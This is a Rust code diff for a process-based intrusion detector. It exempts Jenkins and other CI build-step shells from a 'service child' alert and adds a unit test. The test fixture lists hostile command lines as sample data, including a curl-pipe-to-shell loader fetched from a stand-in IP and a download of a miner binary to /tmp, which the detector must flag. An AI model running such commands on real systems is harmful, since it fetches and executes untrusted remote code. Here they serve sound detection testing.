@@ -359,9 +359,14 @@ fn system_name_elsewhere(
 /// application (redis, nginx, php-fpm, tomcat, confluence, weblogic, jupyter); low under a generic
 /// runtime or an interpreter (java, node, python with no known application) and under a database server
 /// (archive and restore commands run shells by design). One step up when the child is a downloader or
-/// runs from an odd place.
+/// runs from an odd place. A CI executor's job step (`support::ci_job_step`: Jenkins's
+/// `sh -xe /tmp/jenkins123.sh`, a runner's job script) is how CI works and is not reported; an inline
+/// `sh -c` or a downloader straight under the executor (its script console exploited) still is.
 fn service_child(ctx: &Context, p: &ProcessRecord, names: &Names) -> Option<Finding> {
     let (child, _) = support::name_in(ctx, Kind::ShellOrDownloader, names)?;
+    if support::ci_job_step(ctx, p).is_some() {
+        return None;
+    }
     let parent = ctx.model.process(p.ppid)?;
     let pnames = Names::of(parent);
     let svc = support::service_of(ctx.iocs, parent, &pnames).filter(|s| {
@@ -445,4 +450,80 @@ fn mapped_code(ctx: &Context, p: &ProcessRecord, names: &Names) -> Vec<Finding> 
         );
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::indicators::Indicators;
+    use crate::model::fixture;
+
+    /// Review s4 item 10: Jenkins runs its build steps as `sh -xe /tmp/jenkinsNNN.sh`, which is CI; an
+    /// inline `sh -c` or a downloader under Jenkins is its script console exploited, and a shell under a
+    /// web server stays what it was.
+    #[test]
+    fn a_ci_executors_job_step_is_no_service_child() {
+        let jenkins: &[&[u8]] = &[
+            b"/usr/bin/java",
+            b"-jar",
+            b"/usr/share/java/jenkins.war",
+            b"--httpPort=8080",
+        ];
+        let model = fixture::model_with_processes(
+            vec![],
+            vec![],
+            vec![
+                fixture::process(
+                    10,
+                    1,
+                    115,
+                    b"/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
+                    jenkins,
+                ),
+                fixture::process(
+                    11,
+                    10,
+                    115,
+                    b"/usr/bin/dash",
+                    &[b"/bin/sh", b"-xe", b"/tmp/jenkins4820417716412785331.sh"],
+                ),
+                fixture::process(
+                    12,
+                    10,
+                    115,
+                    b"/usr/bin/dash",
+                    &[b"sh", b"-c", b"curl -fsSL http://198.51.100.7/ldr.sh | sh"],
+                ),
+                fixture::process(
+                    13,
+                    10,
+                    115,
+                    b"/usr/bin/curl",
+                    &[b"curl", b"-o", b"/tmp/kdevtmpfsi", b"http://198.51.100.7/k"],
+                ),
+                fixture::process(20, 1, 33, b"/usr/sbin/nginx", &[b"nginx: worker process"]),
+                fixture::process(21, 20, 33, b"/usr/bin/dash", &[b"sh", b"/tmp/x.sh"]),
+            ],
+        );
+        let iocs = Indicators::builtin();
+        let found = detect(&Context {
+            model: &model,
+            iocs: &iocs,
+        });
+        let sev = |pid: i32| {
+            found
+                .iter()
+                .filter(|f| f.rule == rules::RUN_036.id)
+                .find(|f| {
+                    f.iter_subjects().any(|s| {
+                        matches!(s, minetrace_schemas::findings::Subject::Process { pid: p, .. } if *p == pid)
+                    })
+                })
+                .map(|f| f.severity)
+        };
+        assert_eq!(sev(11), None, "{found:#?}");
+        assert_eq!(sev(12), Some(Severity::Medium));
+        assert_eq!(sev(13), Some(Severity::High));
+        assert_eq!(sev(21), Some(Severity::Medium));
+    }
 }
